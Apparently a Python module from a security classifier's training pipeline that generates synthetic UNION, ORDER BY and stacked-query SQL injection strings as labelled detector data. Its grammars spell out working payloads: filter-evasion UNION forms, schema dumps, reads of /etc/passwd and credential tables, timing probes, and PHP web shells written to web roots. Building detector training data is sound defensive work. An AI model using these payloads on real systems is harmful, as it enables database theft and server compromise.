"""SQL injection that joins a query of its own: UNION, ORDER BY probes, dumps of schemas."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.sqli_base import POSTS, SQL
from securitai.train.corpora.kinds import COOKIE, HEADER, PATH, VALUE, AttackKind
from securitai.verdict import Category

_CELLS = Grammar(
    r"""
cell:
  6×‹fn›
  3×‹col›
  2×concat(‹col›,0x3a,‹col›)
  2×concat_ws(0x3a,‹fn›,‹fn›,‹fn›)
  2×group_concat(‹col›)
  2×(‹scalar›)
  2×md5(‹big›)
  ‹#10000-99999›*‹#10000-99999›
  group_concat(‹col›,0x3a,‹col› separator 0x3c62723e)
  unhex(hex(‹col›))
  hex(‹fn›)
  convert(‹fn› using latin1)
  cast(‹col› as char)
  concat(0x71‹hextext›71,‹col›,0x71‹hextext›71)
  char(‹#65-122›,‹#65-122›,‹#65-122›)
  char(‹#65-122›)+char(‹#65-122›)+char(‹#65-122›)
  chr(‹#65-122›)||chr(‹#65-122›)||‹col›||chr(‹#65-122›)
  '‹az4›'||‹col›||'‹az4›'
  0x‹hextext›
  '‹az4›'
  '<?php ‹system¦eval¦passthru›($_‹GET¦POST¦REQUEST›[‹c›]);?>'
  load_file('‹u_file›')
  load_file(0x2f6574632f706173737764)
  utl_raw.cast_to_varchar2(‹col›)
  '~'+‹col›+'~'
  sys.fn_sqlvarbasetostr(hashbytes('MD5','‹n›'))
  str(‹#1000-99999›*‹#1000-99999›)
  aes_decrypt(aes_encrypt(‹fn›,0x71),0x71)
  json_arrayagg(concat_ws(0x3a,‹col›,‹col›))
  (select(@x)from(select(@x:=0x00),(select(0)from(‹table›)where(0x00)in(@x:=concat(@x,0x3c62723e,‹col›))))x)
  xmlagg(xmlelement(‹az›,‹col›))
  quote(‹col›)
  pg_read_file('‹u_file›',0,1000)
  if(substring(‹fn›,1,1)=‹d1›,benchmark(5000000,md5(1)),null)
tail:
  4×‹e›
  5×‹sp›from ‹table›
  2×‹sp›from ‹table› where ‹col›='‹user›'
  ‹sp›from ‹table› limit ‹#0-9›,1
  ‹sp›from ‹table› limit 1 offset ‹#0-9›
  ‹sp›from information_schema.tables where table_schema=database()
  ‹sp›from information_schema.columns where table_name=0x‹hextext›
  ‹sp›from information_schema.columns where table_name='‹syl›' limit ‹#0-9›,1
  ‹sp›from dual
  ‹sp›from sysobjects where xtype='U'
  ‹sp›from sqlite_master where type='table'
  ‹sp›from `‹syl›`.`‹syl›`
  ‹sp›into outfile '/var/www/html/‹rnd›.php'
  ‹sp›into dumpfile 'c:/inetpub/wwwroot/‹rnd›.asp'
  ‹sp›where ‹n›=‹n›
  ‹sp›from ‹table› where '‹c›'='‹c›
union:
  8×UNION SELECT
  6×UNION ALL SELECT
  UNION DISTINCT SELECT
  UNION SELECT ALL
  UNION DISTINCTROW SELECT
  UNION(SELECT
  union/**/select
  /*!UNION*/ /*!SELECT*/
  /*!50000UNION*//*!50000SELECT*/
  /*!‹#10000-60000›union*/ all /*!‹#10000-60000›select*/
  UNION ALL(SELECT
  uni%6fn sel%65ct
  un/**/ion sel/**/ect
  UNIunionON SELselectECT
  ununionion selselectect
  union%0aselect
  union(select
  UNION%23‹az›%0ASELECT
  INTERSECT SELECT
  EXCEPT SELECT
  MINUS SELECT
  union values row(
  %55nion %53elect
""",
    SQL,
)
_CELL = _CELLS.maker("cell")


def columns(rng: Random) -> str:
    """A list of columns: NULLs, running numbers, one number, with one cell that tells."""
    count = 1 + int(rng.expovariate(0.17))
    count = min(count, 40)
    form = int(rng.random() * 5)
    if form == 0:
        cells = ["NULL"] * count
    elif form == 1:
        cells = [str(index + 1) for index in range(count)]
    elif form == 2:
        cells = [str(1 + int(rng.random() * 9999))] * count
    elif form == 3:
        cells = ["'" + chr(97 + index % 26) + "'" for index in range(count)]
    else:
        cells = [("null", "1", "''", "0", "2")[int(rng.random() * 5)] for _ in range(count)]
    if rng.random() < 0.8:
        for _ in range(1 + int(rng.random() * 1.4)):
            cells[int(rng.random() * count)] = _CELL(rng)
    return (",", ",", ",", ", ")[int(rng.random() * 4)].join(cells)


def column_numbers(rng: Random) -> str:
    """1,2,3 … as an ORDER BY probe lists them."""
    return ",".join([str(index + 1) for index in range(1 + int(rng.expovariate(0.12)))])


_UNION = Grammar(
    r"""
inject:
  8×‹out› ‹union› ‹cols›‹tail›‹end›
  2×‹out› and ‹cond› ‹union› ‹cols›‹tail›‹cm›
  ‹out›‹union› ‹cols›‹tail›‹cm›
  2×‹union› ‹cols›‹tail›‹cm›
  ‹out› ‹union› ‹cols›) as ‹az›‹cm›
  ‹out› ‹union› * from (select ‹cols›)‹c›‹tail›‹cm›
  ‹out› ‹union› * from ((select ‹fn›)a join (select ‹fn›)b join (select ‹d1›)c)‹cm›
  ‹out›.union select ‹cols›‹tail›‹cm›
  ‹d1›e0union select ‹cols›‹tail›‹cm›
  ‹d1›.‹d1›union select ‹cols›‹tail›‹cm›
  ‹out› and 0 ‹union› ‹cols›‹tail›‹cm›
  \Nunion(select ‹cols›)
  ‹out› limit 0 ‹union› ‹cols›‹tail›‹cm›
  ‹out› group by ‹col› with rollup ‹union› ‹cols›‹cm›
  (‹scalar›)
  ‹out› ‹union› ‹cols› where '‹c›'='‹c›
  ‹union› ‹cols›
  ‹union› (‹scalar›)
  ‹out› WHERE ‹x=n›=‹$x› ‹union› ‹cols›‹cm›
  ‹out›) AS ‹az4› WHERE ‹x=n›=‹$x› ‹union› ‹cols›‹cm›
  ‹out› as ‹az4› where ‹x=n›=‹$x› ‹union› ‹cols›‹tail›‹end›
  @`'` ‹union› ‹cols›‹tail› ‹cm›@`'`
order:
  4×‹out› ORDER BY ‹#1-60›‹cm›
  2×‹out› GROUP BY ‹#1-60›‹cm›
  ‹out› order by ‹numbers›‹cm›
  ORDER BY ‹#1-99999›‹cm›
  ‹out› ORDER BY ‹#1-30› ‹asc¦desc›‹cm›
  ‹out› having ‹cond›‹cm›
  ‹out› group by ‹col› having ‹cond›‹cm›
  ORDER BY SLEEP(‹#1-30›)
  ‹out› order by if(‹cond›,‹col›,‹col›)‹cm›
  ‹out› order by (case when ‹cond› then ‹n› else ‹scalar› end)
  ORDER BY ‹#1-9›,SLEEP(‹#1-30›),BENCHMARK(‹big›,MD5('‹c›'))‹cm›
  ‹out› LIMIT ‹#0-9›,1 INTO @,@,@‹cm›
  ‹out› limit 1 procedure analyse(extractvalue(rand(),concat(0x3a,‹fn›)),1)‹cm›
  ‹#1-9›,(‹scalar›)
  (case when ‹cond› then ‹col› else ‹col› end)
  ‹col›,(select ‹n› from ‹table›)
  ‹col›;‹scalar›‹cm›
  if(‹cond›,‹n›,(select ‹n› union select ‹n›))
  ‹out› PROCEDURE ANALYSE(‹e›)‹cm›
query:
  ‹scalar›‹;¦;--¦ -- -›
  select ‹cols›‹tail›
  select * from ‹table› where ‹cond›‹;¦¦--›
  select ‹col›,‹col› from ‹table› where ‹col›='‹user›' or ‹cond›
  select ‹fn›;
  select * from ‹table› where ‹col› = '‹pre›' union select ‹cols› ‹cm›
  show ‹tables¦databases¦grants¦variables like '%version%'›;
  select ‹n› from ‹table› where ‹cond› and ‹cond›
  select pg_read_file('‹u_file›')
  select current_setting('‹log_connections¦config_file¦data_directory¦hba_file›');
  select * from openrowset('SQLOLEDB','uid=sa;pwd=‹rnd›;Network=DBMSSOCN;Address=‹host›,1433;','‹scalar›')
  select name from master..sysdatabases
  select case when ‹cond› then ‹n› else null end‹cm›
  select name,password from sys.user$
""",
    _CELLS,
    {"cols": columns, "numbers": column_numbers},
)

_PLACES = (VALUE, COOKIE, HEADER, PATH)
KINDS = (
    AttackKind("sqli.union", Category.SQLI, _UNION.maker("inject", *POSTS), 6.0, _PLACES),
    AttackKind("sqli.order", Category.SQLI, _UNION.maker("order", *POSTS), 2.0),
    AttackKind("sqli.query", Category.SQLI, _UNION.maker("query", *POSTS), 1.5),
)
